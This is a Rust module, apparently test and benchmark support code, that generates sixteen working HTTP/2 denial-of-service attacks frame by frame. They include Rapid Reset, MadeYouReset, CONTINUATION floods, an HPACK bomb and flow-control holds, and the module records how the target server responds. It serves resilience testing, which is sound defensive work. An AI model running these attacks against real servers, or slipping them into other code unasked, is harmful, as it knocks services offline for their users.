//! Attacks on an HTTP/2 server, frame by frame (RFC 9113, HPACK: RFC 7541). `tests/it/http2.rs` makes them small,
//! `benches/hostile.rs` makes them long.

use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::time::{Instant, timeout};

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// "The endpoint detected that its peer is exhibiting a behavior that might be generating excessive load" (§7).
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
pub const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
pub const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// No type that anybody has defined: must be ignored (§4.1).
const UNKNOWN: u8 = 0x42;

pub const END_STREAM: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;
const PADDED: u8 = 0x8;

/// Frames of an attack go out in pieces of about this size.
const BATCH: usize = 64;

/// What the attacker does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are cancelled at once (CVE-2023-44487).
    RapidReset,
    /// The same, one TCP segment each: the server has begun to work on every one.
    SlowReset,
    /// Requests that the server itself has to cancel (CVE-2025-8671).
    MadeYouReset,
    /// A head that never ends (CVE-2024-27316 and others).
    Continuation,
    /// A head that never ends in frames without content.
    EmptyContinuation,
    /// A body of empty frames (CVE-2019-9518).
    EmptyData,
    /// A body of padding.
    PaddedData,
    /// Each wants an answer, and none is read (CVE-2019-9512).
    Ping,
    /// The same with settings (CVE-2019-9515).
    Settings,
    /// Frames that mean nothing.
    Unknown,
    /// Priorities of streams that do not exist (CVE-2019-9513).
    Priority,
    /// Fields that are small on the wire and large in memory (CVE-2016-6581).
    HpackBomb,
    /// Heads of a megabyte.
    LargeHead,
    /// Answers that are asked for and then not taken (CVE-2019-9511, -9517).
    ZeroWindow,
    /// Bodies that are announced and do not come.
    NoBody,
    /// Connections without a request.
    Silent,
}

impl Attack {
    #[allow(dead_code)] // the benchmark's
    pub const ALL: [Self; 16] = [
        Self::RapidReset,
        Self::SlowReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::EmptyData,
        Self::PaddedData,
        Self::Ping,
        Self::Settings,
        Self::Unknown,
        Self::Priority,
        Self::HpackBomb,
        Self::LargeHead,
        Self::ZeroWindow,
        Self::NoBody,
        Self::Silent,
    ];

    /// Whether the attacker waits instead of sending: it holds what it has got.
    fn holds(self) -> bool {
        matches!(self, Self::ZeroWindow | Self::NoBody | Self::Silent)
    }

    /// After this long without taking a byte the server has stopped the attack as well as by closing.
    fn patience(self) -> Duration {
        if self.is_deaf() { Duration::from_millis(500) } else { Duration::from_secs(5) }
    }

    /// Whether the attacker leaves the answers where they are.
    fn is_deaf(self) -> bool {
        matches!(self, Self::Ping | Self::Settings)
    }

    fn settings(self) -> Vec<u8> {
        match self {
            // SETTINGS_INITIAL_WINDOW_SIZE = 0
            Self::ZeroWindow => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
            _ => frame(SETTINGS, 0, 0, &[]),
        }
    }

    /// What comes once, after the preface.
    fn opening(self, request: &Request) -> Vec<u8> {
        match self {
            Self::Continuation | Self::EmptyContinuation => frame(HEADERS, END_STREAM, 1, &request.block("GET")),
            Self::EmptyData | Self::PaddedData => frame(HEADERS, END_HEADERS, 1, &request.block("POST")),
            Self::ZeroWindow => {
                many(100, |number| frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &request.block("GET")))
            }
            Self::NoBody => many(100, |number| {
                let body = [request.block("POST"), literal("content-length", "1000")].concat();
                frame(HEADERS, END_HEADERS, 2 * number + 1, &body)
            }),
            _ => Vec::new(),
        }
    }

    /// The next piece of the attack; `number` counts from 0.
    fn piece(self, request: &Request, number: u32) -> Vec<u8> {
        let stream = |offset: u32| 2 * offset + 1;
        let first = number * u32::try_from(BATCH).unwrap();
        match self {
            Self::RapidReset => many(BATCH, |offset| reset_request(request, stream(first + offset))),
            Self::SlowReset => reset_request(request, stream(number)),
            Self::MadeYouReset => many(BATCH, |offset| {
                let head = frame(HEADERS, END_HEADERS, stream(first + offset), &request.block("POST"));
                // A window over 2^31 - 1 is an error of the stream (§6.9.1).
                [head, frame(WINDOW_UPDATE, 0, stream(first + offset), &[0x7f, 0xff, 0xff, 0xff])].concat()
            }),
            Self::Continuation => many(BATCH, |_| frame(CONTINUATION, 0, 1, &literal("x-more", &"x".repeat(64)))),
            Self::EmptyContinuation => many(BATCH, |_| frame(CONTINUATION, 0, 1, &[])),
            Self::EmptyData => many(BATCH, |_| frame(DATA, 0, 1, &[])),
            Self::PaddedData => many(BATCH, |_| frame(DATA, PADDED, 1, &[&[255][..], &[0; 255]].concat())),
            Self::Ping => many(BATCH, |_| frame(PING, 0, 0, &[7; 8])),
            Self::Settings => many(BATCH, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
            Self::Unknown => many(BATCH, |_| frame(UNKNOWN, 0xff, 0, &[0; 32])),
            Self::Priority => many(BATCH, |offset| frame(PRIORITY, 0, stream(first + offset), &[0, 0, 0, 0, 16])),
            Self::HpackBomb => hpack_bomb(request, stream(number)),
            Self::LargeHead => large_head(request, stream(number)),
            Self::ZeroWindow | Self::NoBody | Self::Silent => Vec::new(),
        }
    }
}

/// How one connection of an attack ended.
#[derive(Debug, Default)]
pub struct Ended {
    /// The code of its GOAWAY, if one was seen.
    pub goaway: Option<u32>,
    /// Whether the server closed it.
    pub closed: bool,
    /// Streams that the server reset.
    pub resets: usize,
    /// Heads of answers.
    pub answers: usize,
    /// Pieces that were sent.
    pub pieces: u32,
}

/// Whom the attacker asks.
#[derive(Clone)]
pub struct Request {
    pub authority: String,
    pub path: String,
    pub token: Option<String>,
}

impl Request {
    /// Its fields as HPACK literals that nobody has to remember.
    pub fn block(&self, method: &str) -> Vec<u8> {
        let mut fields = vec![(":method", method), (":scheme", "https"), (":path", self.path.as_str())];
        fields.push((":authority", &self.authority));
        let bearer = self.token.as_ref().map(|token| format!("Bearer {token}"));
        if let Some(bearer) = &bearer {
            fields.push(("authorization", bearer));
        }
        fields.iter().flat_map(|(name, value)| literal(name, value)).collect()
    }
}

/// Attacks over one connection until the server closes it, `most` pieces are sent, or the time is over.
pub async fn attack<S>(attack: Attack, stream: S, request: &Request, most: u32, until: Instant) -> Ended
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let mut ended = Ended::default();
    let (reader, mut writer) = tokio::io::split(stream);
    let mut frames = Frames::new(reader);
    let opening = [PREFACE, &attack.settings(), &attack.opening(request)].concat();
    let write = async {
        if writer.write_all(&opening).await.is_err() || writer.flush().await.is_err() {
            return 0;
        }
        let mut number = 0;
        while number < most && !attack.holds() && Instant::now() < until {
            let piece = attack.piece(request, number);
            let sent = async { writer.write_all(&piece).await.and(writer.flush().await) };
            if !matches!(timeout(attack.patience(), sent).await, Ok(Ok(()))) {
                break;
            }
            number += 1;
            tokio::task::yield_now().await;
        }
        number
    };
    let pieces = {
        let read = async {
            if attack.is_deaf() {
                return std::future::pending().await;
            }
            while let Some(frame) = frames.next().await {
                match frame.kind {
                    GOAWAY => {
                        ended.goaway = frame.payload.get(4..8).map(|code| u32::from_be_bytes(code.try_into().unwrap()))
                    }
                    RST_STREAM => ended.resets += 1,
                    HEADERS => ended.answers += 1,
                    _ => {}
                }
            }
            ended.closed = true;
        };
        tokio::pin!(read, write);
        // The end of the attack is read, and what the server says to it.
        let mut sent = 0;
        tokio::select! {
            () = &mut read => {}
            pieces = &mut write => {
                let rest = until.saturating_duration_since(Instant::now());
                let patience = if attack.holds() { rest } else { Duration::from_secs(1) };
                let _ = timeout(patience, &mut read).await;
                sent = pieces;
            }
        }
        sent
    };
    Ended { pieces, ..ended }
}

/// A frame (§4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A field that is not indexed, its name new and nothing compressed (RFC 7541 §6.2.2).
pub fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        integer(&mut bytes, 7, 0, text.len());
        bytes.extend(text.as_bytes());
    }
    bytes
}

/// A frame as it was read.
pub struct Frame {
    pub kind: u8,
    flags: u8,
    pub stream: u32,
    pub payload: Vec<u8>,
}

impl Frame {
    /// Whether nothing follows on its stream.
    #[allow(dead_code)] // not the benchmark's
    pub fn ends_stream(&self) -> bool {
        matches!(self.kind, DATA | HEADERS) && self.flags & END_STREAM != 0
    }
}

/// Reads frames.
pub struct Frames<R>(R);

impl<R: AsyncRead + Unpin> Frames<R> {
    pub fn new(reader: R) -> Self {
        Self(reader)
    }

    /// The next one; `None` when the connection is closed.
    pub async fn next(&mut self) -> Option<Frame> {
        let mut head = [0; 9];
        self.0.read_exact(&mut head).await.ok()?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        self.0.read_exact(&mut payload).await.ok()?;
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]);
        Some(Frame { kind: head[3], flags: head[4], stream, payload })
    }
}

fn reset_request(request: &Request, stream: u32) -> Vec<u8> {
    let head = frame(HEADERS, END_HEADERS | END_STREAM, stream, &request.block("GET"));
    // CANCEL
    [head, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
}

/// A field of 4 KB that the decoder must remember, and as many references to it as a frame has bytes.
fn hpack_bomb(request: &Request, stream: u32) -> Vec<u8> {
    let mut block = request.block("GET");
    // Literal with incremental indexing, new name (§6.2.1); then the newest entry of the dynamic table, 62 (§6.1).
    block.push(0x40);
    for text in ["x-bomb", &"b".repeat(3900)] {
        integer(&mut block, 7, 0, text.len());
        block.extend(text.as_bytes());
    }
    block.resize(16_000, 0x80 | 62);
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
}

fn large_head(request: &Request, stream: u32) -> Vec<u8> {
    let field = literal("x-large", &"l".repeat(16_000));
    let mut frames = frame(HEADERS, END_STREAM, stream, &request.block("GET"));
    for number in 0..64 {
        frames.extend(frame(CONTINUATION, if number == 63 { END_HEADERS } else { 0 }, stream, &field));
    }
    frames
}

fn many(count: usize, make: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..u32::try_from(count).unwrap()).flat_map(make).collect()
}

/// An integer with a prefix of so many bits (RFC 7541 §5.1).
fn integer(bytes: &mut Vec<u8>, prefix: u8, flags: u8, value: usize) {
    let most = (1 << prefix) - 1;
    if value < most {
        bytes.push(flags | u8::try_from(value).unwrap());
        return;
    }
    bytes.push(flags | u8::try_from(most).unwrap());
    let mut rest = value - most;
    while rest >= 128 {
        bytes.push(u8::try_from(rest % 128).unwrap() | 0x80);
        rest /= 128;
    }
    bytes.push(u8::try_from(rest).unwrap());
}
